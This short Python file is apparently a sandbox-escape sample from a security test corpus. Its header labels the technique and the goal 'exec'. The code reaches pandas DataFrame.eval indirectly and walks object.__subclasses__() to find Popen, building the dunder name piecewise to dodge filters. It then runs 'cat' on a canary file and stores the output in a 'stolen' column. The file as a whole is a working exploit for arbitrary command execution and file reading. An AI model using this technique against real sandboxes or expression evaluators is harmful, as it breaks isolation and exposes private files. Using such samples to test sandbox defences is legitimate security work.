# class: subclass_walk
# technique: object.__subclasses__() in expression text, then Popen to a process or os (DataFrame.eval reached as map(functools.partial(frame.agg, local_dict=...), ['eval'], [0], [expr]))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return list(map(functools.partial(frame.agg, local_dict=names), ["eval"], [0], [expr]))[0]

u = "_" * 2
classes = ev("@o[0]." + u + "subclasses" + u + "()", o=[object])

cls = [c for c in classes if str(c).endswith("Popen'>")][0]
df = pd.DataFrame({"stolen": [cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0].decode()]})
